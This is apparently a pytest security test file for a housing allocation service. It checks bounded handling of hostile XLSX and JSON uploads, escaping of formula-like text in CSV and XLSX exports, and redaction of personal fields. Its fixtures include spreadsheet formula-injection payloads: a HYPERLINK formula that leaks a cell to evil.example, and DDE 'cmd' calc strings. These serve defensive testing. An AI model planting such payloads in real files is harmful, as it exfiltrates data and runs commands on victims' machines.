"""Item 7: hostile allocation files are 4xx problems with a reason, their work bounded.
Item 10: formula-like text is escaped (CSV) or a text cell (XLSX) in exports; JSON keeps
it. Item 12: an export for a key without ``personal:read`` has no name, id or post."""

from __future__ import annotations

import csv
import dataclasses
import io
import zipfile
from collections.abc import Iterator

import httpx
import openpyxl
import pytest

from tests.security.conftest import Service, make_service, register_demo
from twin.buildings.registry import BuildingRegistry
from twin.demo.allocations import generate_allocations
from twin.housing.allocations.export import EXPORT_COLUMNS, export_rows

KEYS = {
    "housing": ("housing", (), ()),
    "planner": ("system", ("A",), ("allocations:read", "buildings:read")),
}
HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?leak="&A1,"点我")',
    "department": "+1+cmd|' /C calc'!A0",
    "organisation": "@SUM(1+1)*cmd|' /C calc'!A0",
}
ALLOCATIONS = "/buildings/A/allocations"
#: A sheet that declares (and holds) this many rows.
DECLARED_ROWS = 1_000_000


@pytest.fixture(scope="module")
def service(tmp_path_factory: pytest.TempPathFactory, demo_ifc):  # type: ignore[no-untyped-def]
    prepared = make_service(tmp_path_factory.mktemp("files") / "service", keys=KEYS)
    register_demo(prepared.root, demo_ifc)
    building = (
        BuildingRegistry(prepared.root / "data", cache_dir=prepared.root.parent / "cache")
        .load("A")
        .building
    )
    records = generate_allocations(building)
    # A hostile file: the first record's texts start like formulas (written raw).
    records[0] = dataclasses.replace(records[0], **HOSTILE)
    prepared.start()
    prepared.records = records  # type: ignore[attr-defined]
    with prepared.client("housing") as api:
        answer = api.post(ALLOCATIONS, files={"file": ("a.csv", _raw_csv(records), "text/csv")})
        assert answer.status_code == 200, answer.text
    yield prepared
    prepared.stop()


def _raw_csv(records) -> bytes:  # type: ignore[no-untyped-def]
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=EXPORT_COLUMNS, lineterminator="\n")
    writer.writeheader()
    writer.writerows(export_rows(records))
    return buffer.getvalue().encode()


def _import(service: Service, name: str, content: bytes, **data: str) -> httpx.Response:
    with service.client("housing") as api:
        return api.post(ALLOCATIONS, files={"file": (name, content)}, data=data)


def _xlsx_with_rows(header: list[str], rows: int) -> bytes:
    """An XLSX whose sheet declares and holds ``rows`` rows under ``header``."""
    book = openpyxl.Workbook()
    book.active.append(header)
    small = io.BytesIO()
    book.save(small)

    def sheet() -> Iterator[bytes]:
        cells = "".join(
            f'<c r="{chr(65 + i)}1" t="inlineStr"><is><t>{h}</t></is></c>'
            for i, h in enumerate(header)
        )
        yield (
            '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns='
            '"http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            f'<dimension ref="A1:F{rows}"/><sheetData><row r="1">{cells}</row>'
        ).encode()
        for start in range(2, rows + 1, 10_000):
            yield "".join(
                f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>x</t></is></c></row>'
                for n in range(start, min(start + 10_000, rows + 1))
            ).encode()
        yield b"</sheetData></worksheet>"

    out = io.BytesIO()
    with (
        zipfile.ZipFile(small) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for member in source.infolist():
            if member.filename == "xl/worksheets/sheet1.xml":
                with target.open(member.filename, "w") as stream:
                    for part in sheet():
                        stream.write(part)
            else:
                target.writestr(member, source.read(member))
    return out.getvalue()


GOOD_HEADER = ["organisation", "department", "person_id", "name", "rank", "room"]


def test_an_xlsx_of_a_million_rows_with_a_bad_header_is_refused_by_its_header(service):
    answer = _import(service, "big.xlsx", _xlsx_with_rows(["organisation", "x"], DECLARED_ROWS))
    assert answer.status_code == 400, answer.text
    assert answer.json()["type"] == "/problems/allocation-file"
    assert "person_id" in answer.json()["detail"]


def test_an_xlsx_of_a_million_rows_stops_at_the_row_limit(service):
    answer = _import(service, "big.xlsx", _xlsx_with_rows(GOOD_HEADER, DECLARED_ROWS))
    assert answer.status_code == 400, answer.text[:500]
    assert "more than 20,000 rows" in answer.json()["detail"]


def test_a_deeply_nested_json_file_is_a_400_with_a_reason(service):
    answer = _import(service, "deep.json", b"[" * 100_000 + b"]" * 100_000)
    assert answer.status_code == 400, answer.text
    assert "nested too deeply" in answer.json()["detail"]
    nested = b'[{"name": ' + b"[" * 50 + b"]" * 50 + b"}]"
    assert "nested too deeply" in _import(service, "d.json", nested).json()["detail"]


def _export(service: Service, key: str, fmt: str) -> bytes:
    with service.client(key) as api:
        answer = api.get(ALLOCATIONS, params={"format": fmt})
    assert answer.status_code == 200, answer.text
    return answer.content


def test_formula_like_text_is_escaped_in_the_csv_export(service):
    rows = list(csv.DictReader(io.StringIO(_export(service, "housing", "csv").decode("utf-8-sig"))))
    (row,) = [r for r in rows if r["person_id"] == service.records[0].person_id]
    assert {k: row[k] for k in HOSTILE} == {k: "'" + v for k, v in HOSTILE.items()}
    starts = {cell[:1] for r in rows for cell in r.values()} & {"=", "+", "@", "\t", "\r"}
    assert starts == set()
    # ... and the export re-imports unchanged (the importer removes the escape)
    again = _import(service, "again.csv", _export(service, "housing", "csv"), dry_run="true")
    assert again.json()["updated"] == [] and again.json()["created"] == []


def test_formula_like_text_is_a_text_cell_in_the_xlsx_exports(service):
    sheets = {
        "allocations": openpyxl.load_workbook(io.BytesIO(_export(service, "housing", "xlsx"))),
    }
    with service.client("housing") as api:
        report = api.get("/buildings/A/compliance", params={"format": "xlsx"})
    assert report.status_code == 200
    sheets["compliance"] = openpyxl.load_workbook(io.BytesIO(report.content))
    found = {}
    for label, book in sheets.items():
        for ws in book.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (label, ws.title, cell.coordinate, cell.value)
                    if cell.value in HOSTILE.values():
                        found.setdefault(label, set()).add(cell.value)
    assert found["allocations"] == set(HOSTILE.values())
    assert HOSTILE["name"] in found["compliance"]


def test_the_json_export_keeps_the_original_text(service):
    import json

    records = json.loads(_export(service, "housing", "json"))["allocations"]
    (row,) = [r for r in records if r["person_id"] == service.records[0].person_id]
    assert {k: row[k] for k in HOSTILE} == HOSTILE


@pytest.mark.parametrize("fmt", ["json", "csv", "xlsx"])
def test_a_redacted_export_names_nobody(service, fmt):
    body = _export(service, "planner", fmt)
    if fmt == "json":
        import json

        rows = json.loads(body)["allocations"]
    elif fmt == "csv":
        rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(body)).active
        header, *values = [[c or "" for c in r] for r in sheet.iter_rows(values_only=True)]
        rows = [dict(zip(header, r, strict=True)) for r in values]
    assert len(rows) == len(service.records)
    assert {(r["name"], r["person_id"], r["post"]) for r in rows} == {("", "", "")}
    assert all(r["room"] and r["department"] and r["rank"] for r in rows)
    posts = [p for record in service.records for p in record.posts]
    assert posts  # the demo has leaders with posts: they must not show
    assert not any(p.encode() in body for p in posts if len(p) > 1)
